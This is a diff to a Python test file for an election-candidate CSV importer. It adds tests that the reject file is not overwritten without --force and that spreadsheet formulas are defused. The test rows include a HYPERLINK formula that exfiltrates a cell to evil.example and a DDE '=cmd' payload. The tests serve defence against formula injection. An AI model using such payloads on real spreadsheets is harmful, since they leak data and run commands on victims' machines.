@@ -20,6 +20,7 @@ from hypothesis import strategies as st
 from sqlalchemy import func, select, text
 
 from deskapp.core.domain import AuditAction
+from deskapp.core.errors import ValidationError
 from deskapp.io.candidates import DC_REQUIRED_COLUMNS
 from deskapp.io.importer import (
     ImportRefused,
@@ -197,7 +198,7 @@ def test_democracy_club_file_many_ballots_by_elections_and_names(
     }
     assert ballots["senedd.caerdydd-penarth.2026-05-07"]["post"] == "Caerdydd Penarth"
     assert orgs["cardiff"] == "Cardiff Council"  # the file's name beats the slug's
-    assert {"leeds", "gwynedd", "parliament", "senedd", "south-wales"} <= set(orgs)
+    assert {"leeds", "gwynedd", "parl.dunmore-and-kells", "senedd", "south-wales"} <= set(orgs)
     assert len(orgs) == len(set(orgs))
 
 
@@ -255,7 +256,7 @@ def test_plan_then_apply_for_the_tui(desk: Desk, tmp_path: Path) -> None:
     summary = apply_import(desk, plan, progress=lambda *a: seen.append(a))
     assert summary.written and summary.people.new == 8
     stages = {s for s, _, _ in seen}
-    assert stages == {"matching", "writing"}
+    assert stages == {"reading", "matching", "writing"}
     for stage in stages:
         last = [(d, t) for s, d, t in seen if s == stage][-1]
         assert last[0] == last[1]
@@ -444,6 +445,50 @@ def test_skip_bad_imports_good_rows_and_writes_a_private_reject_file(
     assert [f for f in got[0] if not f.startswith("reject_")] == HEADER
 
 
+def test_reject_file_is_never_replaced_without_force_and_defuses_formulas(
+    desk: Desk, tmp_path: Path
+) -> None:
+    rows = base_rows()
+    rows[1]["person_name"] = ""  # missing name
+    rows[1]["party_name"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rows[4]["election_date"] = "2026-13-40"
+    rows[4]["post_label"] = "Pentyrch;=cmd|' /C calc'!A0"
+    path = write_dc(tmp_path / "mixed.csv", rows)
+    plan = import_file(desk, path, skip_bad=True)
+    rejects = default_rejects_path(path)
+    rejects.write_text("an officer's notes\n", encoding="utf-8")
+    with pytest.raises(ValidationError) as caught:
+        write_rejects(plan, rejects)
+    assert "already exists" in str(caught.value) and "--force" in str(caught.value)
+    assert rejects.read_text(encoding="utf-8") == "an officer's notes\n"  # untouched
+    assert write_rejects(plan, rejects, force=True) == 2
+    raw = rejects.read_text(encoding="utf-8-sig")
+    assert raw.startswith('"reject_row","reject_columns"')  # every cell quoted
+    with rejects.open(encoding="utf-8-sig", newline="") as fh:
+        got = list(csv.DictReader(fh))
+    assert got[0]["party_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert got[1]["post_label"] == "Pentyrch;'=cmd|' /C calc'!A0"
+
+
+def test_cli_reject_file_needs_force_before_anything_is_imported(
+    db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from deskapp.cli import main
+
+    monkeypatch.setenv("DESKAPP_DB", str(db_path))
+    monkeypatch.setenv("DESKAPP_OFFICER", "4521")
+    monkeypatch.setenv("DESKAPP_PASSPHRASE", "correct horse battery")
+    assert main(["init", "--officer", "4521", "--name", "Sgt Ada Example"]) == 0
+    rows = base_rows()
+    rows[1]["person_name"] = ""
+    path = write_dc(tmp_path / "mixed.csv", rows)
+    default_rejects_path(path).write_text("kept\n", encoding="utf-8")
+    assert main(["import", "candidates", str(path), "--skip-bad"]) != 0
+    assert default_rejects_path(path).read_text(encoding="utf-8") == "kept\n"
+    assert main(["import", "candidates", str(path), "--skip-bad", "--force"]) == 0
+    assert "reject_row" in default_rejects_path(path).read_text(encoding="utf-8-sig")
+
+
 def test_a_problem_with_the_file_itself_cannot_be_skipped(desk: Desk, tmp_path: Path) -> None:
     path = write_dc(tmp_path / "odd.csv", base_rows(), header=[*HEADER, "shoe_size"])
     plan = import_file(desk, path, skip_bad=True)
@@ -467,13 +512,14 @@ def test_bad_phone_and_repeated_ballot_are_problems(desk: Desk, tmp_path: Path) 
         "Name,Council,Ward,Telephone,Ballot Paper ID\r\n"
         "Iolo Prydderch,Powys,Llanidloes,call me maybe,local.powys.llanidloes.2026-05-07\r\n"
         "Hywel Dafis,Powys,Rhayader,01597 000000,local.powys.rhayader.2026-05-07\r\n"
-        "Hywel Dafis,Powys,Rhayader,,local.powys.rhayader.2026-05-07\r\n",
+        "Hywel Dafis,Powys,Rhayader,01597 111111,local.powys.rhayader.2026-05-07\r\n",
         encoding="utf-8",
     )
     plan = import_file(desk, path)
     assert [p.row for p in plan.problems] == [2, 4]
     assert "phone" in plan.problems[0].reason and "call me" not in plan.problems[0].reason
-    assert "repeats" in plan.problems[1].reason
+    assert "repeats" in plan.problems[1].reason and plan.problems[1].column == "phone"
+    assert "01597" not in plan.problems[1].reason
 
 
 # --------------------------------------------------------------------------- encodings
@@ -595,7 +641,7 @@ def test_fuzz_malformed_files_never_crash_nor_write_partially(
         assert r.problems
     if plan.rejected and summary.written:
         rejects = folder / "fuzz.rejects.csv"
-        assert write_rejects(plan, rejects) == len(plan.rejected)
+        assert write_rejects(plan, rejects, force=True) == len(plan.rejected)
         with rejects.open(encoding="utf-8-sig", newline="") as fh:
             got = list(csv.reader(fh))
         assert [int(g[0]) for g in got[1:]] == sorted(rejected_rows)
